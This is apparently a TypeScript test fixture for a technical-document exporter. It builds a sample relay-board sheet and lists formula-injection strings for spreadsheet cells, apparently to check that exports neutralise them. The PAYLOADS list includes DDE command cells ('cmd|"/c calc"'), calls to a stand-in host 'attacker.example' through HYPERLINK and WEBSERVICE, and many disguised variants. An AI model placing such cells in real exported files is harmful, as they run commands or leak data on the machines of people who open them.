import type { Cell, TechnicalDocument } from '../../../server/documents/technical-document.ts';

/** A small document with one table, one list, and whatever a test changes. */
export function document(changes: Partial<TechnicalDocument> = {}): TechnicalDocument {
  return {
    heading: 'Test sheet',
    subject: 'Figures of an invented board',
    identification: 'GH-12-TEST-0001',
    occasion: 'Issued 2026-03-10, 14:52 Z',
    stamp: null,
    facts: [{ label: 'Stages', value: '7, all locked', flagged: false }],
    rows: [
      [table([[{ text: 'R4' }, { text: '4.7 kΩ', number: 4700 }]])],
      [
        {
          kind: 'list',
          heading: 'Cautions',
          widthPx: 280,
          items: [{ text: 'Coils store energy.', flagged: true }],
        },
      ],
    ],
    titleBlock: {
      legalOwner: 'Glasshouse Works (demo)',
      department: 'Driver stages',
      creator: 'A. Designer',
      checker: 'B. Checker',
      approver: 'C. Approver',
      documentType: 'Test sheet',
      status: 'Released',
      statusFlagged: false,
      dateOfIssue: '2026-03-10',
      title: 'Greenhouse vent controller',
      supplementaryTitle: 'Relay board',
      revision: 'A',
      language: 'en',
    },
    program: 'Sinkwell 1.0.0',
    content: { short: 'Content SHA-256 3be8', full: 'SHA-256 3be890d1' },
    atMs: Date.UTC(2026, 2, 10, 14, 52),
    fileName: 'GH-12_TEST-0001_20260310',
    ...changes,
  };
}

export function table(records: readonly (readonly Cell[])[]) {
  return {
    kind: 'table',
    heading: 'Lines',
    widthPx: 680,
    columns: [
      { heading: 'Designator', widthPx: 300, data: true },
      { heading: 'Value', unit: 'Ω', widthPx: 360, data: true, right: true },
    ],
    records,
  } as const;
}

/** Cells a spreadsheet would run, or take for something else than text. */
export const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("https://attacker.example","x")',
  '=cmd|"/c calc"!A0',
  '=WEBSERVICE("https://attacker.example")',
  '+1+1',
  '+cmd|"/c calc"!A0',
  '-1+1',
  '-2+3+cmd|"/c calc"!A0',
  '@SUM(1,1)',
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '\tplain',
  '\rplain',
  '\nplain',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '"=1+1',
  '"="1',
  "'=1+1",
  "''=1+1",
  ' "=1+1',
  '" =1+1',
  '“=1+1',
  '‘=1+1',
  '`=1+1',
  '=',
  '-',
  '+',
  '@',
  '=1,2;3',
  '=\n1',
  '-R4',
] as const;

export const HARMLESS = [
  'R4, R9',
  '±5 %',
  '–',
  '1N4148W type',
  '−40 V',
  '2026-03-10',
  "'quoted'",
] as const;
